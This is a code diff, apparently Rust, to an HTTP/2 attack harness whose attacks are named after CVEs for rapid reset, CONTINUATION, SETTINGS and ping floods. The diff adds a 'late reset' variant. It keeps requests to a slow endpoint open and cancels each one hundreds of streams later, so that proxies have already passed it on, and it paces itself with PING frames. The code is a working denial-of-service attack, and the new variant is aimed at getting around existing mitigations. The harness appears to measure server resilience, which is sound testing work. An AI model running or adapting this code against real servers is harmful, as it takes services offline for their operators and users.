@@ -23,12 +23,18 @@ const SLOW: usize = 200;
 const STALLED: usize = 10;
 const ANSWERS: u32 = 10;
 const INITIAL_WINDOW_SIZE: u16 = 4;
+/// How many requests later a late reset comes, so that a proxy has sent its request on.
+const LATER: u32 = 500;
+/// Error code of a request that is given up.
+const CANCEL: u32 = 8;
 
 /// One kind of attack.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum Attack {
     /// Requests, each cancelled at once: CVE-2023-44487.
     RapidReset,
+    /// Requests, each cancelled when some hundred others have followed it.
+    LateReset,
     /// Header fields without an end: CVE-2024-27316.
     ContinuationFlood,
     /// SETTINGS, whose answers are not read: CVE-2019-9515.
@@ -77,8 +83,9 @@ impl Outcome {
 
 impl Attack {
     /// All of them.
-    pub const ALL: [Self; 8] = [
+    pub const ALL: [Self; 9] = [
         Self::RapidReset,
+        Self::LateReset,
         Self::ContinuationFlood,
         Self::SettingsFlood,
         Self::PingFlood,
@@ -92,6 +99,7 @@ impl Attack {
     pub fn name(self) -> &'static str {
         match self {
             Self::RapidReset => "rapid_reset",
+            Self::LateReset => "late_reset",
             Self::ContinuationFlood => "continuation_flood",
             Self::SettingsFlood => "settings_flood",
             Self::PingFlood => "ping_flood",
@@ -137,7 +145,11 @@ impl Attack {
                 if wire.flush(LIMIT).await.is_err() {
                     break;
                 }
-                if flood.reads() && !drain(&mut wire, &mut outcome, Duration::ZERO).await {
+                let alive = match flood.attack {
+                    Self::LateReset => flood.follow(&mut wire, &mut outcome).await,
+                    _ => !flood.reads() || drain(&mut wire, &mut outcome, Duration::ZERO).await,
+                };
+                if !alive {
                     break;
                 }
                 // The clients that are measured live in this process.
@@ -174,6 +186,8 @@ struct Flood {
     attack: Attack,
     block: BytesMut,
     stream: u32,
+    /// Pings that are not answered.
+    pings: u32,
 }
 
 impl Flood {
@@ -183,6 +197,7 @@ impl Flood {
             attack,
             block: request(&authority, "/bytes/1"),
             stream: 1,
+            pings: 0,
         };
         match attack {
             Attack::ContinuationFlood => {
@@ -208,6 +223,8 @@ impl Flood {
                 flood.block.put_bytes(0x80 | 62, 16_000);
             }
             Attack::EmptyData => frame(out, kind::HEADERS, flag::END_HEADERS, 1, &flood.block),
+            // Not answered before it is cancelled.
+            Attack::LateReset => flood.block = request(&authority, "/wait/60000"),
             _ => {}
         }
         flood
@@ -216,6 +233,28 @@ impl Flood {
     /// Whether the answers are read. The worst client does not.
     fn reads(&self) -> bool {
         !matches!(self.attack, Attack::SettingsFlood | Attack::PingFlood)
+    }
+
+    /// Keeps one batch ahead of the server, so that what is cancelled has begun there; false when the
+    /// connection is closed.
+    async fn follow(&mut self, wire: &mut Wire, outcome: &mut Outcome) -> bool {
+        frame(&mut wire.out, kind::PING, 0, 0, b"are here");
+        self.pings += 1;
+        let until = Instant::now() + LIMIT;
+        while self.pings > 1 && Instant::now() < until {
+            match wire.next(LIMIT).await {
+                Ok(Some(frame)) => {
+                    outcome.saw(&frame);
+                    self.pings -= u32::from(frame.kind == kind::PING && frame.flags == flag::ACK);
+                    if frame.kind == kind::GOAWAY {
+                        return false;
+                    }
+                }
+                Ok(None) => return true,
+                Err(_) => return false,
+            }
+        }
+        true
     }
 
     /// Appends some frames; says how many.
@@ -230,8 +269,14 @@ impl Flood {
             match self.attack {
                 Attack::RapidReset => {
                     frame(out, kind::HEADERS, end, self.stream, &self.block);
-                    // CANCEL.
-                    frame(out, kind::RST_STREAM, 0, self.stream, &8_u32.to_be_bytes());
+                    frame(out, kind::RST_STREAM, 0, self.stream, &CANCEL.to_be_bytes());
+                    self.stream += 2;
+                }
+                Attack::LateReset => {
+                    frame(out, kind::HEADERS, end, self.stream, &self.block);
+                    if let Some(earlier) = self.stream.checked_sub(2 * LATER) {
+                        frame(out, kind::RST_STREAM, 0, earlier, &CANCEL.to_be_bytes());
+                    }
                     self.stream += 2;
                 }
                 Attack::ContinuationFlood => frame(out, kind::CONTINUATION, 0, 1, &self.block),
